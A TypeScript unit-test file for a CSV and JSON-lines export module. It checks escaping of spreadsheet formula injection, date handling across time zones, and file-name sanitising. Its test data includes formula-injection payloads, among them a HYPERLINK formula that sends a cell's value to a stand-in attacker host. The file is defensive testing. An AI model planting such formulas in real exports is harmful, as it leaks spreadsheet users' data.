import { describe, expect, test } from 'vitest';
import { dateTextIn, fileName, propertyNames, tableFile } from '../../src/client/manage/table-file';
import type { CrossingCell } from '../../src/jobs/download/sheet-rows';

const csv = (...rows: CrossingCell[][]): string[] =>
  tableFile('csv', { rows, headerRow: 1, timeZone: 'UTC' })
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .slice(0, -1);

describe('CSV', () => {
  test.each<[CrossingCell, string]>([
    ['=1+1', "'=1+1"],
    ['+49 170', "'+49 170"],
    ['-5', "'-5"],
    ['@nike', "'@nike"],
    ['\t=1', '"\'\t\'=1"'],
    ['\r=1', '"\'\r\'=1"'],
    ['\n=1', '"\'\n\'=1"'],
    [' =1', "' =1"],
    ['\u00a0\u200b\ufeff+1', "'\u00a0\u200b\ufeff+1"],
    ['\u3000＝1', "'\u3000＝1"],
    // Where fields are divided by semicolons, this would be a cell of its own.
    ['a\n=1', '"a\n\'=1"'],
    ['a; \t=1', '"a; \t\'=1"'],
    ['a\n+HYPERLINK("x")', '"a\n\'+HYPERLINK(""x"")"'],
    ["a\n@SUM(1)|'x'!A1", "\"a\n'@SUM(1)|'x'!A1\""],
    ['with\n@nike\n- and (more)', '"with\n@nike\n- and (more)"'],
    ['a\u2028b', '"a\u2028b"'],
    ['＝1', "'＝1"],
    ['=HYPERLINK("https://evil.example?x="&A1,"Hi")', '"\'=HYPERLINK(""https://evil.example?x=""&A1,""Hi"")"'],
    [-5, '-5'],
    [-0.1, '-0.1'],
    [4.213_456_789_012_345, '4.213456789012345'],
    [1e21, '1e+21'],
    [0.1 + 0.2, '0.30000000000000004'],
    [true, 'TRUE'],
    ['', ''],
    ['a "b", c', '"a ""b"", c"'],
    ['x;=1', '"x;\'=1"'],
    [' a', '" a"'],
    ['00123', '00123'],
    ['日本 🎉', '日本 🎉'],
    [{ at: Date.UTC(2026, 10, 23) }, '2026-11-23'],
    [{ at: Date.UTC(2026, 10, 23, 9, 5) }, '2026-11-23T09:05:00'],
  ])('%j is %s', (cell, text) => {
    expect(csv([cell])).toEqual([text]);
    // A header is no better than a cell.
    expect(csv([cell, 'x'], ['y', cell])).toEqual([text + ',x', 'y,' + text]);
  });

  test('no field begins with what a spreadsheet takes for a formula, but a number', () => {
    const odd = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', '='].flatMap((one, _, all) =>
      all.map((other) => one + other),
    );
    for (const text of odd) {
      const [field = ''] = [tableFile('csv', { rows: [[text]], headerRow: 1, timeZone: 'UTC' }).slice(1, -2)];
      const read = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
      expect(read).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
      // A trigger after a line's end is no beginning of this field, but of one of another program.
      expect(read.replace(/^'(?=[^'])|(?<=[\t\r\n])'(?==)/g, '')).toBe(text.replace(/^'(?=[^'])/, ''));
    }
  });
});

test('JSON lines: an object a row below the header, texts as they are, blanks as null, names once', () => {
  const rows: CrossingCell[][] = [
    ['Report', '', '', ''],
    ['Handle', 'Handle', '', 'On'],
    ['@nike', -5, '', { at: Date.UTC(2026, 0, 2) }],
    ['', '', '', ''],
    ['=x\n', 1.25, false, ''],
  ];
  const lines = tableFile('ndjson', { rows, headerRow: 2, timeZone: 'UTC' }).trimEnd().split('\n');
  expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
    { Handle: '@nike', 'Handle 2': -5, 'Column 3': null, On: '2026-01-02' },
    { Handle: '=x\n', 'Handle 2': 1.25, 'Column 3': false, On: null },
  ]);
  // One line a row for every reader.
  const odd = 'a\u2028b\u0085c\u2029d\re';
  const one = tableFile('ndjson', { rows: [['__proto__'], [odd]], headerRow: 1, timeZone: 'UTC' });
  expect(one.split(/[\r\n\u0085\u2028\u2029]/)).toHaveLength(2);
  expect(Object.entries(JSON.parse(one) as object)).toEqual([['__proto__', odd]]);
  expect(tableFile('ndjson', { rows: [['a']], headerRow: 0, timeZone: 'UTC' })).toBe('{"Column 1":"a"}\n');
  expect(propertyNames(['a', 'a 2', 'a'], String)).toEqual(['a', 'a 2', 'a 3']);
});

test('dates are those of the spreadsheet, wherever the browser is', () => {
  const midnight = Date.parse('2026-03-28T23:00:00Z');
  expect(dateTextIn('Europe/Berlin')(midnight)).toBe('2026-03-29');
  expect(dateTextIn('America/New_York')(midnight)).toBe('2026-03-28T19:00:00');
});

test('names of files', () => {
  expect(fileName('Instagram: a/b "c"\n', 'csv')).toBe('Instagram a b c.csv');
  expect(fileName('***', 'ndjson')).toBe('sheet.ndjson');
});
